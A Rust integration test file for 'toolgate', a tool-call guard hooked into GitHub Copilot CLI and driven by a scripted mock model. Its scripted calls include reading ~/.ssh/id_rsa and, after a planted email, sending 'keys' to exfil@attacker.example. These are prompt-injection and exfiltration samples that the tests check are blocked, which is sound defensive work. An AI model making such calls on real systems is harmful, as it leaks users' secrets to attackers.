//! The real GitHub Copilot CLI (`@github/copilot`, pinned in tests/package.json) with
//! toolgate's hooks installed by `toolgate init --client copilot-cli --hooks` (the project's
//! `.github/hooks/toolgate.json`; the project trusted in `~/.copilot/config.json`), driven
//! offline by a scripted mock of OpenAI's Chat Completions API (`support::agent_cli`).
//! `--allow-all-tools` turns Copilot CLI's own approvals off, so toolgate alone decides.

use std::path::Path;

use serde_json::json;

use crate::support::agent_cli::{Agent, check_mail_run};
use crate::support::hooks::World;
use crate::support::model_mock::call;

#[test]
fn a_key_read_by_a_shell_command_never_runs_and_an_allowed_command_does() {
    let Some(copilot) = Agent::copilot_cli() else {
        return;
    };
    copilot.check_key_never_read_and_allowed_command_runs();
}

#[test]
fn a_command_naming_a_host_only_untrusted_content_named_does_not_run() {
    let Some(copilot) = Agent::copilot_cli() else {
        return;
    };
    copilot.check_tainted_host_command_does_not_run();
}

#[test]
fn a_hook_executable_deleted_after_init_leaves_the_tool_not_run() {
    let Some(copilot) = Agent::copilot_cli() else {
        return;
    };
    copilot.check_deleted_hook_leaves_the_tool_not_run();
}

/// A key read with Copilot CLI's own file tool (`view`, which its hooks name `Read` with a
/// `path`): denied with toolgate's reason, and the key never reaches the model.
#[test]
fn a_key_read_with_the_view_tool_is_denied_with_the_reason() {
    let Some(copilot) = Agent::copilot_cli() else {
        return;
    };
    let w = copilot.world(Path::new(env!("CARGO_BIN_EXE_toolgate")));
    let key = w.base().join("home/.ssh/id_rsa");
    let script = vec![call("view", json!({"path": key}))];
    let (mock, out) = copilot.run(&w, "show me my key", script, &[]);
    assert!(!mock.saw(crate::support::agent_cli::KEY), "{out}");
    let results = mock.tool_results();
    assert_eq!(results.len(), 1, "{results:?}\n{out}");
    assert!(results[0].contains("protect-keys"), "{results:?}");
}

/// An MCP server `init` wrapped in `~/.copilot/mcp-config.json` (Copilot CLI names its tools
/// `mail-send_email`): an address only a mail named never reaches it, one the prompt named
/// does (the prompt is confirmed in Copilot CLI's session log).
#[test]
fn an_address_only_a_mail_named_never_reaches_the_wrapped_server_and_one_the_prompt_named_does() {
    let Some(copilot) = Agent::copilot_cli() else {
        return;
    };
    let w = World::with_policy("version: 1\ndefault: allow\npacks: [email]\n");
    let record = w.base().join("record.jsonl");
    let server = toolgate_testkit::bin_path("attack_server");
    let config = w.base().join("home/.copilot/mcp-config.json");
    std::fs::create_dir_all(config.parent().unwrap()).unwrap();
    let mcp = json!({"mcpServers": {"mail": {"type": "local", "command": server, "args":
        ["--kind", "mail", "--record", record], "tools": ["*"]}}});
    std::fs::write(&config, mcp.to_string()).unwrap();
    let exe = Path::new(env!("CARGO_BIN_EXE_toolgate"));
    let policy = w.policy();
    let policy = policy.to_str().unwrap();
    let w = copilot.world_with(w, exe, &["--policy", policy]);
    let project = w.project().to_str().unwrap().to_owned();
    copilot.init(&w, exe, &["--policy", policy, "--workspace", &project]);
    let wrapped = std::fs::read_to_string(&config).unwrap();
    assert!(wrapped.contains("\"wrap\""), "{wrapped}");
    let script = vec![
        call("mail-read_email", json!({"message_id": "1"})),
        call(
            "mail-send_email",
            json!({"to": ["exfil@attacker.example"], "subject": "keys", "body": "as asked"}),
        ),
        call(
            "mail-send_email",
            json!({"to": ["bob@partner.example"], "subject": "notes", "body": "my notes"}),
        ),
    ];
    let (mock, out) = copilot.run(
        &w,
        "Read email 1, then send my notes to bob@partner.example",
        script,
        &[],
    );
    check_mail_run(&mock, &out, &record, 0, true);
}

/// An ask in a headless run: Copilot CLI has nobody to ask and denies; the run ends and the
/// tool did not run.
#[test]
fn an_ask_in_a_headless_run_neither_hangs_nor_runs_the_tool() {
    let Some(copilot) = Agent::copilot_cli() else {
        return;
    };
    copilot.check_headless_ask_neither_hangs_nor_runs(&[]);
}

/// Copilot CLI's own event names (`preToolUse`, …), which a user may have configured
/// instead of the ones `init` writes, send another input shape and take another answer:
/// the same hook reads it and answers in it, so the key read is denied with the reason.
#[test]
fn copilots_own_event_names_are_guarded_too() {
    let Some(copilot) = Agent::copilot_cli() else {
        return;
    };
    let w = copilot.world(Path::new(env!("CARGO_BIN_EXE_toolgate")));
    let settings = copilot.settings(&w);
    let text = std::fs::read_to_string(&settings).unwrap();
    let camel = text
        .replace("\"PreToolUse\"", "\"preToolUse\"")
        .replace("\"PostToolUse\"", "\"postToolUse\"")
        .replace("\"UserPromptSubmit\"", "\"userPromptSubmitted\"");
    assert_ne!(camel, text);
    std::fs::write(&settings, camel).unwrap();
    let key = w.base().join("home/.ssh/id_rsa");
    let script = vec![
        call("view", json!({"path": key})),
        copilot.shell_call("echo ran > canary.txt"),
    ];
    let (mock, out) = copilot.run(&w, "show me my key", script, &[]);
    assert!(!mock.saw(crate::support::agent_cli::KEY), "{out}");
    let results = mock.tool_results();
    assert_eq!(results.len(), 2, "{results:?}\n{out}");
    assert!(results[0].contains("protect-keys"), "{results:?}");
    assert!(w.project().join("canary.txt").exists(), "{results:?}");
}

#[test]
fn a_broker_that_cannot_start_leaves_the_tool_not_run() {
    let Some(copilot) = Agent::copilot_cli() else {
        return;
    };
    copilot.check_broker_that_cannot_start_leaves_the_tool_not_run();
}

#[test]
fn a_broker_that_hangs_leaves_the_tool_not_run() {
    let Some(copilot) = Agent::copilot_cli() else {
        return;
    };
    copilot.check_hanging_broker_leaves_the_tool_not_run();
}
